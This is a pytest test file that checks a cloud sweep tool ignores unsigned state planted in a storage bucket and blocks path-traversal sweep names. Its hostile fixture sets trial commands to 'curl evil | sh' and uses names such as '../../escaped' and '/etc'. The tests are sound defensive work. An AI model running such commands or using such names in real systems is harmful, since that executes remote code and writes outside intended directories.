"""The sweep state in the bucket is written by laptops, but any VM that mirrors checkpoints can write
the bucket too: a copy planted there must never decide what runs, on which VM, what happens at the
end, or which local path is written (fake-gcs-server, the real `gcptui` CLI)."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gcptui.remote.errors import ConfigError
from gcptui.remote.sweep.bucket_state import (
    UntrustedState,
    decode_state,
    encode_state,
    key_path,
    state_key,
    state_object,
)
from gcptui.remote.sweep.spec import load_sweep
from gcptui.remote.sweep.state import SweepState, save_state, sweep_dir
from gcptui.remote.sweep.trials import initial_trials
from tests.helpers.gcs import FakeGcs

ROOT = Path(__file__).resolve().parents[2]
BUCKET = "gs://sweep-state/runs"
SWEEP = """
name = "bk"
command = "echo {x} > {run_dir}/out"
metric = "score"
vms = ["bk-0"]
at_end = "none"
search = "grid"

[params.x]
kind = "list"
values = [1, 2]
"""


def _laptop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_gcs: FakeGcs) -> tuple[Path, SweepState]:
    """This laptop's sweep `bk` (saved in its own sweeps folder) and a config naming the bucket."""
    monkeypatch.setenv("GCPTUI_SWEEPS_DIR", str(tmp_path / "deep" / "sweeps"))
    for key, value in fake_gcs.env().items():
        monkeypatch.setenv(key, value)
    fake_gcs.make_bucket("sweep-state")
    (tmp_path / "sweep.toml").write_text(SWEEP)
    spec = load_sweep(tmp_path / "sweep.toml")
    state = SweepState(name=spec.name, spec=spec, created_at=time.time(), trials=[])
    state.add(initial_trials(spec))
    save_state(state)
    state_key(create=True)  # it has mirrored the sweep before
    config = tmp_path / "gcptui.toml"
    config.write_text(f'[storage]\nbucket = "{BUCKET}"\n')
    return config, state


def _plant(fake_gcs: FakeGcs, data: bytes, name: str = "bk") -> None:
    bucket_name, blob = state_object(BUCKET, name)
    fake_gcs.client().bucket(bucket_name).blob(blob).upload_from_string(data)


def _hostile(state: SweepState) -> dict:  # type: ignore[type-arg]
    """What a VM writes: newer, other commands and VMs, a delete at the end, a name that is a path."""
    planted = state.to_json()
    planted["name"] = "../../escaped"
    planted["updated_at"] = time.time() + 3600
    planted["spec"]["at_end"] = "delete"
    planted["spec"]["vms"] = ["victim"]
    for trial in planted["trials"]:
        trial["command"] = trial["resume"] = "curl evil | sh"
        trial["vm"] = "victim"
    return planted


def test_a_planted_state_is_neither_shown_nor_saved_nor_a_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_gcs: FakeGcs
) -> None:
    config, state = _laptop(tmp_path, monkeypatch, fake_gcs)
    _plant(fake_gcs, json.dumps(_hostile(state)).encode())
    shown = subprocess.run(
        [sys.executable, "-m", "gcptui.tui", "sweep", "status", "bk", "--json", "--config", str(config)],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert shown.returncode == 0, shown.stderr
    assert "is not used: it is not signed" in shown.stderr
    trials = json.loads(shown.stdout)["trials"]
    assert [t["command"] for t in trials] == [t.command for t in state.trials]
    assert not (tmp_path / "escaped").exists()  # sweeps/../../escaped
    assert (
        json.loads((sweep_dir("bk") / "state.json").read_text())["trials"][0]["command"] != "curl evil | sh"
    )


@pytest.mark.parametrize("given", ["bk", "sweep.toml"])
def test_sweep_run_takes_nothing_to_run_from_an_unsigned_copy(
    given: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_gcs: FakeGcs
) -> None:
    """The same spec as this laptop's (so the file check passes), other trial commands and VMs."""
    from gcptui.tui.cli.sweep import _spec_and_state

    _, state = _laptop(tmp_path, monkeypatch, fake_gcs)
    planted = _hostile(state)
    planted["name"] = "bk"
    planted["spec"] = state.spec.model_dump(mode="json") | {"at_end": "delete"}
    _plant(fake_gcs, json.dumps(planted).encode())
    said: list[str] = []
    monkeypatch.chdir(tmp_path)
    spec, chosen = _spec_and_state(given, BUCKET, said.append)
    assert [t.command for t in chosen.trials] == [t.command for t in state.trials]
    assert {t.vm for t in chosen.trials} == {None} and spec.at_end == "none"
    assert any("not signed" in line for line in said), said


def test_only_a_copy_signed_for_this_sweep_with_this_key_is_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_gcs: FakeGcs
) -> None:
    _, state = _laptop(tmp_path, monkeypatch, fake_gcs)
    signed = encode_state(state)
    assert key_path().stat().st_mode & 0o077 == 0  # the key: this user's only
    assert decode_state(signed, "bk", "here").trials == state.trials
    with pytest.raises(UntrustedState, match="not signed"):  # a copy signed for another sweep
        decode_state(signed, "other", "here")
    with pytest.raises(UntrustedState, match="not signed"):  # one byte changed
        decode_state(signed.replace(b"echo", b"ech0"), "bk", "here")
    key_path().unlink()  # another laptop, without the key
    with pytest.raises(UntrustedState, match="no sweep key"):
        decode_state(signed, "bk", "here")
    key_path().write_text("f" * 64 + "\n")  # another key
    with pytest.raises(UntrustedState, match="not signed"):
        decode_state(signed, "bk", "here")


def test_a_sweep_name_never_leaves_the_sweeps_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GCPTUI_SWEEPS_DIR", str(tmp_path / "sweeps"))
    for name in ("../x", "/etc", "a/b", ".bucket-key", ""):
        with pytest.raises(ConfigError, match="not a sweep name"):
            sweep_dir(name)
    with pytest.raises(ConfigError, match="not a readable sweep state"):
        from gcptui.remote.sweep.state import parse_state

        parse_state(json.dumps({"name": "../x"}), "here")
